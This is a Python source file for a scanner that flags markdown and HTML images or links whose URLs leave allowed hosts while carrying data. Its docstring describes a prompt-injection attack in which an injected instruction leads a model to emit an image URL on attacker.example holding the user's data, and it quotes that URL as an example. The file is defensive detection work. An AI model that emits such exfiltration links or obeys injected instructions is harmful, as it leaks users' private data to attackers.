"""Exfiltration through links and images: markdown or HTML that makes the client fetch a URL carrying data.

An injected instruction can make a model answer with `![x](https://attacker.example/p?d=<the user's data>)`; a chat
UI that renders it sends the data away with no click. A finding is a markdown image, a markdown link or an HTML
image/link whose URL leaves the allowed hosts and carries data: a query or fragment, or a long opaque path segment.
Pure regular expressions over RE2 (linear time), so it runs inside a stream window as well.
"""

from __future__ import annotations

import asyncio
import fnmatch
from collections.abc import Sequence
from urllib.parse import urlsplit

import re2

from wardgate.models import Finding, Segment

__all__ = ["LinkScanner"]

_URL = r"(https?://[^\s)\"'<>]+)"
_PATTERNS = (
    ("markdown_image", re2.compile(r"!\[[^\]]{0,500}\]\(\s*<?" + _URL)),
    ("markdown_link", re2.compile(r"(?:^|[^!])\[[^\]]{0,500}\]\(\s*<?" + _URL)),
    ("markdown_reference", re2.compile(r"(?m)^\s*\[[^\]]{1,100}\]:\s*<?" + _URL)),
    ("html_image", re2.compile(r"(?i)<img\b[^>]{0,500}?\bsrc\s*=\s*[\"']?" + _URL)),
    ("html_link", re2.compile(r"(?i)<a\b[^>]{0,500}?\bhref\s*=\s*[\"']?" + _URL)),
)
# Images are fetched by the client on render; links need a click.
_SCORES = {"markdown_image": 1.0, "html_image": 1.0, "markdown_link": 0.8, "markdown_reference": 0.8, "html_link": 0.8}
_OPAQUE = re2.compile(r"[A-Za-z0-9+/=_-]{32,}")


class LinkScanner:
    name = "links"

    def __init__(self, *, allowed_hosts: Sequence[str] = (), min_data_chars: int = 8) -> None:
        self._allowed = [host.lower() for host in allowed_hosts]
        self._min_data = min_data_chars

    async def scan(self, segments: Sequence[Segment]) -> list[Finding]:
        return await asyncio.to_thread(self.scan_sync, segments)

    def scan_sync(self, segments: Sequence[Segment]) -> list[Finding]:
        findings = []
        for index, segment in enumerate(segments):
            if "http" not in segment.text:
                continue
            for kind, pattern in _PATTERNS:
                for match in pattern.finditer(segment.text):
                    url = match.group(1)
                    if self._carries_data(url):
                        start, end = match.span(1)
                        findings.append(Finding(self.name, f"exfiltration:{kind}", _SCORES[kind], index, start, end))
        return findings

    def _carries_data(self, url: str) -> bool:
        try:
            parts = urlsplit(url)
        except ValueError:
            return True  # unparseable: do not let it through as harmless
        host = (parts.hostname or "").lower()
        if any(fnmatch.fnmatchcase(host, allowed) for allowed in self._allowed):
            return False
        data = parts.query + parts.fragment
        return len(data) >= self._min_data or any(_OPAQUE.fullmatch(piece) for piece in parts.path.split("/"))
